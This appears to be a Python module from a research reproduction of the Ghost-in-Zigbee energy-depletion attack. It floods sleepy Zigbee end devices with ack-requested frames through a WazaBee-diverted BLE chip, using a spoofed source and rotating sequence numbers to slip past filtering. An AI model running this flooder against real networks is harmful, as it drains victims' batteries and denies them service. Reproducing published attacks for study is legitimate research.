"""Ghost-in-Zigbee energy depletion through the WazaBee pivot.

§VII notes that even with link-layer cryptography "the attacker can still
perform denial of service attacks", citing Cao et al.'s Ghost-in-Zigbee
energy-depletion attack ([30]).  This module realises it over the diverted
BLE chip: the attacker floods sleepy end devices with ack-requested
frames addressed to them.  Every frame costs the victim a radio wake-up, a
full-frame reception and an acknowledgement transmission — regardless of
whether the payload later fails the security check, because the MAC
acknowledges before (and whether or not) it can authenticate.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Sequence

from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data

__all__ = ["FleetDepletionAttack"]


@dataclass
class FleetDepletionAttack:
    """One flooder rotating over one or many victims.

    Each tick targets the next address in ``targets`` round-robin, so a
    single diverted BLE chip spreads ``rate_hz`` ack-requested frames
    across a whole PAN — every victim pays wake-up + reception + ACK per
    hit, and the shared channel congests for everyone (the CSMA-CA
    collapse the fleet campaign measures).  A single victim is
    ``targets=[victim]``.  Any in-PAN ``spoofed_source`` passes
    destination filtering; sequence numbers advance per frame to defeat
    duplicate rejection.
    """

    firmware: WazaBeeFirmware
    targets: Sequence[Address]
    spoofed_source: Address
    channel: int
    rate_hz: float = 200.0
    frames_sent: int = field(default=0, init=False)
    _running: bool = field(default=False, init=False)
    _sequence: int = field(default=0, init=False)
    _cursor: int = field(default=0, init=False)

    def start(self) -> None:
        if self.rate_hz <= 0:
            raise ValueError("rate must be positive")
        if not self.targets:
            raise ValueError("need at least one target")
        if not self._running:
            self._running = True
            self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)

    def stop(self) -> None:
        self._running = False

    def _tick(self) -> None:
        if not self._running:
            return
        target = self.targets[self._cursor % len(self.targets)]
        self._cursor += 1
        self._sequence = (self._sequence + 1) & 0xFF
        frame = build_data(
            source=self.spoofed_source,
            destination=target,
            payload=b"\x00" * 8,
            sequence_number=self._sequence,
            ack_request=True,
        )
        self.firmware.send_frame(frame, self.channel)
        self.frames_sent += 1
        self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
